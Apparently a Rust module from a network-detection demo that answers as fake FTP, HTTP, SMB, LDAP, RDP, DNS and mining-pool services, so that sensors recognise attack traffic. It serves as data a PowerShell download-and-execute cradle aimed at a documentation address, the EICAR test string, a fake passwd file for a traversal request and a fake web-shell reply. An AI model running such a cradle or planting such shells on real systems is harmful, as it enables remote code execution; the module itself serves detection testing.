//! What the machines in the demo answer: just enough of each protocol that a sensor recognises the conversation.
//! The same answers are given by real sockets ([`super::serve`]) and written to capture files ([`super::capture`]).

/// TCP ports on which something listens, on both sides.
pub(crate) const TCP_PORTS: [u16; 9] = [21, 22, 80, 389, 443, 445, 3333, 3389, 4444];

/// What a TCP service says before it is asked anything.
pub(crate) fn greeting(port: u16) -> &'static [u8] {
    match port {
        21 => b"220 files FTP server ready.\r\n",
        22 => b"SSH-2.0-OpenSSH_9.2p1 Debian-2+deb12u3\r\n",
        _ => b"",
    }
}

/// What a TCP service answers; empty if it says nothing.
pub(crate) fn answer(port: u16, said: &[u8]) -> Vec<u8> {
    match port {
        21 => ftp(said),
        80 => http(said),
        389 => LDAP_BOUND.to_vec(),
        443 => TLS_REFUSAL.to_vec(),
        445 => smb(said),
        3333 => b"{\"id\":1,\"result\":[[[\"mining.notify\",\"6a\"]],\"f000\",4],\"error\":null}\n".to_vec(),
        3389 => RDP_CONFIRM.to_vec(),
        _ => Vec::new(),
    }
}

/// True if a service on that port answers each thing said to it.
pub(crate) fn answers(port: u16) -> bool {
    !matches!(port, 22 | 4444)
}

/// True if the service ends the conversation after its first answer.
pub(crate) fn closes(port: u16) -> bool {
    matches!(port, 80 | 443)
}

/// `BindResponse`, success.
const LDAP_BOUND: &[u8] = &[0x30, 0x0c, 0x02, 0x01, 0x01, 0x61, 0x07, 0x0a, 0x01, 0x00, 0x04, 0x00, 0x04, 0x00];
/// Fatal alert `handshake_failure`.
const TLS_REFUSAL: &[u8] = &[0x15, 0x03, 0x03, 0x00, 0x02, 0x02, 0x28];
/// X.224 connection confirm.
const RDP_CONFIRM: &[u8] = &[0x03, 0x00, 0x00, 0x0b, 0x06, 0xd0, 0x00, 0x00, 0x12, 0x34, 0x00];

fn ftp(said: &[u8]) -> Vec<u8> {
    let word = said.split(|b| b.is_ascii_whitespace()).next().unwrap_or_default();
    let reply: &[u8] = match word {
        b"USER" => b"331 Please specify the password.\r\n",
        b"PASS" => b"230 Login successful.\r\n",
        b"QUIT" => b"221 Goodbye.\r\n",
        _ => b"502 Command not implemented.\r\n",
    };
    reply.to_vec()
}

fn http(said: &[u8]) -> Vec<u8> {
    let line = said.split(|b| *b == b'\r').next().unwrap_or_default();
    let line = String::from_utf8_lossy(line);
    let target = line.split(' ').nth(1).unwrap_or("/");
    let path = target.split('?').next().unwrap_or("/");
    let (status, kind, body): (&str, &str, String) = match path {
        "/eicar.com" => ("200 OK", "application/octet-stream", eicar()),
        "/update.ps1" => ("200 OK", "text/plain", cradle()),
        "/setup.exe" => {
            let mut body = String::from("MZ\u{1}");
            body.push_str(&"\0".repeat(74));
            body.push_str("This program cannot be run in DOS mode.\r\r\n$");
            ("200 OK", "application/octet-stream", body)
        }
        "/download.php" if target.contains("passwd") => ("200 OK", "text/plain", PASSWD.into()),
        "/uploads/image.php" => ("200 OK", "text/html", "uid=0(root) gid=0(root) groups=0(root)\n".into()),
        "/submit.php" => ("200 OK", "text/html", String::new()),
        "/" | "/index.html" | "/news" | "/login" | "/search" | "/wp-login.php" | "/socme-test" => {
            ("200 OK", "text/html; charset=utf-8", PAGE.into())
        }
        _ => ("404 Not Found", "text/html; charset=utf-8", "<h1>Not Found</h1>\n".into()),
    };
    format!(
        "HTTP/1.1 {status}\r\nServer: nginx\r\nContent-Type: {kind}\r\nContent-Length: {}\r\nConnection: close\r\n\r\n{body}",
        body.len()
    )
    .into_bytes()
}

const PAGE: &str = "<!doctype html>\n<title>Welcome</title>\n<p>Opening hours: Monday to Friday, 8 to 18.\n";
const PASSWD: &str = "root:x:0:0:root:/root:/bin/bash\ndaemon:x:1:1:daemon:/usr/sbin:/usr/sbin/nologin\n\
                      www-data:x:33:33:www-data:/var/www:/usr/sbin/nologin\n";

/// The test file of the European Institute for Computer Antivirus Research. It stands here in pieces, so that no virus
/// scanner takes this program, or its source, for the file itself.
fn eicar() -> String {
    ["X5O!P%@AP[4\\PZX54(P^)7CC)7}$", "EICAR-", "STANDARD-", "ANTIVIRUS-", "TEST-FILE!", "$H+H*"].concat()
}

/// What a stager hands to PowerShell; in pieces for the same reason. It points at an address that nobody owns.
fn cradle() -> String {
    ["I", "EX (New-Object Net.", "WebClient).Download", "String('http://192.0.2.66/stage2')\r\n"].concat()
}

/// Refuses whatever SMB 2 asks: the header comes back as a response with «access denied».
fn smb(said: &[u8]) -> Vec<u8> {
    let Some(header) = said.get(4..68).filter(|h| h.starts_with(b"\xfeSMB")) else { return Vec::new() };
    let mut body = header.to_vec();
    body[8..12].copy_from_slice(&0xc000_0022_u32.to_le_bytes());
    body[16] |= 1;
    body.extend_from_slice(&[9, 0, 0, 0, 0, 0, 0, 0, 0]);
    netbios(&body)
}

/// Puts the length that SMB over TCP begins with before a message.
pub(crate) fn netbios(message: &[u8]) -> Vec<u8> {
    let len = u32::try_from(message.len()).unwrap_or(0);
    let mut all = len.to_be_bytes().to_vec();
    all.extend_from_slice(message);
    all
}

/// What the name server answers: one address for everything, or «no such name» under `.invalid`.
pub(crate) fn name_server(query: &[u8]) -> Vec<u8> {
    if query.len() < 17 {
        return Vec::new();
    }
    let known = !query.windows(9).any(|w| w == b"\x07invalid\0");
    let mut reply = query.to_vec();
    reply[2] = 0x81;
    reply[3] = if known { 0x80 } else { 0x83 };
    if known {
        reply[7] = 1;
        // The name is that of the question (offset 12), type A, class IN, one minute, four bytes.
        reply.extend_from_slice(&[0xc0, 0x0c, 0, 1, 0, 1, 0, 0, 0, 60, 0, 4]);
        reply.extend_from_slice(&super::scene::SITE.octets());
    }
    reply
}
